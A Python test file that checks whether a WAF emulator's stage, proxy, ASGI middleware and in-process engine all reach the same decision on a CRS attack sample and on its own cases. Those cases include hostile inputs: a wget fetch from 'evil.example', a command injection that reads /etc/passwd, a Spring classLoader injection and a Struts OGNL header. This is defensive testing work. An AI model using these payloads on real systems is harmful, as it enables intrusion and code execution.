"""One engine, three enforcement points: the CRS sample replayed through an API Gateway stage, `strongroom waf proxy`
and the ASGI middleware gets the same decision at each, and the engine in process agrees.

The web ACL is the issue's six AWS managed groups at default settings. Every point sees the same request: the path
is the stage's (`/test/...`, as the stage shows it to WAF), and the corpus's `Host: localhost` (which AWS's
Host_localhost_HEADER blocks on its own) is replaced by a neutral host, as bench/waf_detection.py does.
"""

from __future__ import annotations

import asyncio
import base64
import http.client
import json
import time
from pathlib import Path
from typing import Any
from urllib.parse import unquote_to_bytes

import pytest
from bench.waf_detection import GROUPS

from strongroom.waf import WafRequest, WebAclEvaluator
from strongroom.waf.asgi import WafMiddleware
from tests.e2e.apigateway_invoke_support import Backend, deploy, method, resource, upstream
from tests.e2e.apigateway_support import make_api
from tests.e2e.waf_support import VIS, Proxy, name
from tests.support.server import ServerProcess

__all__ = ["upstream"]  # the fixture

SAMPLE = Path(__file__).resolve().parents[1] / "data" / "crs-sample" / "cases.json"
HOST = "www.example.com"
# CRS files whose attack classes AWS's groups cover (protocol enforcement, smuggling, session fixation are not)
APPLICATION_ATTACKS = {"913", "930", "931", "932", "933", "934", "941", "942", "944"}
STAGE = "test"


def _cases() -> list[dict[str, Any]]:
    """The sample's cases (bodies stored base64) an HTTP client can send as written (raw / malformed request lines
    are the server's business before any WAF sees them)."""
    usable = []
    for case in json.loads(SAMPLE.read_text()):
        if case["raw"] is not None or case["status_only"]:
            continue
        uri = case["uri"]
        if not uri.startswith("/") or any(ord(c) < 0x21 or ord(c) > 0x7E for c in uri):
            continue
        headers = [(k, HOST if k.lower() == "host" else v) for k, v in case["headers"]]
        if not any(k.lower() == "host" for k, _ in headers):
            headers.append(("Host", HOST))
        if any(not v.isascii() or "\r" in v or "\n" in v for _, v in headers):
            continue
        usable.append({**case, "headers": headers, "path": f"/{STAGE}{uri}", "body": base64.b64decode(case["body"])})
    return usable


def _send(port: int, prefix: str, case: dict[str, Any]) -> tuple[int, dict[str, str], bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=15)
    try:
        conn.putrequest(case["method"], prefix + case["path"], skip_host=True, skip_accept_encoding=True)
        body = case["body"]
        for key, value in case["headers"]:
            if key.lower() != "content-length":
                conn.putheader(key, value)
        conn.putheader("Content-Length", str(len(body)))
        conn.endheaders(body)
        resp = conn.getresponse()
        return resp.status, {k.lower(): v for k, v in resp.getheaders()}, resp.read()
    finally:
        conn.close()


def _asgi_blocked(app: WafMiddleware, case: dict[str, Any]) -> bool:
    path, _, query = case["path"].partition("?")
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": case["method"],
        "scheme": "http",
        "path": unquote_to_bytes(path).decode("latin-1"),
        "raw_path": path.encode("latin-1"),
        "query_string": query.encode("latin-1"),
        "headers": [(k.lower().encode("latin-1"), v.encode("latin-1")) for k, v in case["headers"]],
        "client": ("127.0.0.1", 40000),
        "server": ("127.0.0.1", 80),
    }
    body = case["body"]
    statuses: list[int] = []

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": body, "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            statuses.append(message["status"])

    asyncio.run(app(scope, receive, send))
    return statuses[0] == 403


async def _ok_app(scope: Any, receive: Any, send: Any) -> None:
    await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/plain")]})
    await send({"type": "http.response.body", "body": b"ok"})


@pytest.fixture(scope="module")
def protected(server: ServerProcess, upstream: Backend) -> tuple[str, dict[str, Any]]:
    """A `{proxy+}` HTTP_PROXY stage with the six groups associated: (invoke prefix, the web ACL as GetWebACL
    has it)."""
    apigw, waf = server.client("apigateway"), server.client("wafv2")
    api = make_api(apigw)
    for parent in (api["rootResourceId"], resource(apigw, api["id"], api["rootResourceId"], "{proxy+}")):
        uri = upstream.url + ("/{proxy}" if parent != api["rootResourceId"] else "/")
        method(
            apigw,
            api["id"],
            parent,
            "ANY",
            integration={"type": "HTTP_PROXY", "integrationHttpMethod": "ANY", "uri": uri},
        )
    deploy(apigw, api["id"], STAGE)
    rules = [
        {
            "Name": group,
            "Priority": i,
            "OverrideAction": {"None": {}},
            "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": group}},
            "VisibilityConfig": {**VIS, "MetricName": group},
        }
        for i, group in enumerate(GROUPS)
    ]
    summary = waf.create_web_acl(
        Name=name("crs"), Scope="REGIONAL", DefaultAction={"Allow": {}}, VisibilityConfig=VIS, Rules=rules
    )["Summary"]
    waf.associate_web_acl(
        WebACLArn=summary["ARN"], ResourceArn=f"arn:aws:apigateway:us-east-1::/restapis/{api['id']}/stages/{STAGE}"
    )
    acl = waf.get_web_acl(Name=summary["Name"], Scope="REGIONAL", Id=summary["Id"])["WebACL"]
    return f"/restapis/{api['id']}", acl


def _decisions(
    server: ServerProcess, prefix: str, engine: WebAclEvaluator, middleware: WafMiddleware, proxy: Proxy, case: Any
) -> tuple[bool, bool, bool, bool]:
    """Blocked? in process, at the stage, at the proxy, in the ASGI middleware."""
    path, _, query = case["path"].partition("?")
    request = WafRequest(
        method=case["method"], uri_path=path, query_string=query, headers=tuple(case["headers"]), body=case["body"]
    )
    in_process = engine.evaluate(request, now=time.time()).action == "BLOCK"
    status, headers, _ = _send(
        server.port, prefix, {**case, "path": case["path"].replace(f"/{STAGE}", f"/{STAGE}/_user_request_", 1)}
    )
    at_stage = status == 403 and headers.get("x-amzn-errortype", "").startswith("ForbiddenException")
    at_proxy = _send(proxy.port, "", case)[0] == 403
    return in_process, at_stage, at_proxy, _asgi_blocked(middleware, case)


BROWSER = [("Host", HOST), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Firefox/125.0")]
# (query or header, blocked?): Unix commands need shell context, Java EL RCE, English with command words,
# quoted phrases and parentheticals (docs/waf-managed-rules.md)
OWN_CASES = [
    ("q=python%20-c%20%27import%20os%27", None, True),
    ("q=wget%20evil.example%2Fx%20-O%20%2Ftmp%2Fx", None, True),
    ("q=www.example.com%3B%2Fbin%2Fca%3F%20%2Fet%2A%2Fpasswd", None, True),
    ("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", None, True),
    ("", ("Content-Type", "%{(#nike='multipart/form-data').(#dm=@ognl"), True),
    ("q=echo%20dot%20speaker", None, False),
    ("q=python%20tutorial", None, False),
    ("q=%22red%20dress%22", None, False),
    ("q=Ordered%20the%202-pack%20%28not%20the%203-pack%29%20by%20mistake", None, False),
]


def test_detection_changes_decide_the_same_at_every_enforcement_point(
    server: ServerProcess, protected: tuple[str, dict[str, Any]], upstream: Backend, tmp_path: Path
) -> None:
    prefix, acl = protected
    engine, middleware = WebAclEvaluator(acl), WafMiddleware(_ok_app, acl)
    proxy = Proxy(server, acl["ARN"], upstream.url, tmp_path / "proxy.log")
    try:
        for query, header, blocked in OWN_CASES:
            headers = BROWSER + ([header] if header else [])
            case = {"method": "GET", "path": f"/{STAGE}/search" + (f"?{query}" if query else ""), "headers": headers}
            got = _decisions(server, prefix, engine, middleware, proxy, {**case, "body": b""})
            assert got == (blocked,) * 4, (query, header, got)
    finally:
        proxy.stop()


def test_the_crs_sample_gets_the_same_decision_at_every_enforcement_point(
    server: ServerProcess, protected: tuple[str, dict[str, Any]], upstream: Backend, tmp_path: Path
) -> None:
    prefix, acl = protected
    cases = _cases()
    assert len(cases) >= 100
    engine = WebAclEvaluator(acl)
    middleware = WafMiddleware(_ok_app, acl)
    proxy = Proxy(server, acl["ARN"], upstream.url, tmp_path / "proxy.log")
    try:
        disagreements = []
        blocked_positives = positives = 0
        for case in cases:
            in_process, at_stage, at_proxy, in_asgi = _decisions(server, prefix, engine, middleware, proxy, case)
            if len({in_process, at_stage, at_proxy, in_asgi}) != 1:
                disagreements.append((case["test_title"], in_process, at_stage, at_proxy, in_asgi))
            if case["positive"] and case["file"][8:11] in APPLICATION_ATTACKS:
                positives += 1
                blocked_positives += in_process
        assert disagreements == [], disagreements
        # the decisions are also the right ones (detection itself is measured on the whole corpus in bench/)
        assert blocked_positives >= positives * 0.9, (blocked_positives, positives)
    finally:
        proxy.stop()
